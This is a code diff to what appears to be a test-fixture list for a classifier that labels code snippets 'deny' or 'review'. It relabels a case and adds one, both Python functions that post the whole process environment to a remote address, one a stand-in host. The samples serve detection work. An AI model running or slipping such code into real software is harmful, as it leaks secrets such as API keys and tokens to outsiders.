@@ -609,8 +609,13 @@ export const executions: readonly Shape[] = [
   ),
   init(
     'the environment from a function',
-    'review',
+    'deny',
     `import os, requests\ndef report():\n    requests.post("https://x.invalid", json=dict(os.environ))\n`,
+  ),
+  init(
+    'the environment from a function, to an address that it is given',
+    'review',
+    `import os, requests\ndef report(url):\n    requests.post(url, json=dict(os.environ))\n`,
   ),
   init(
     'an SSH key by a function',
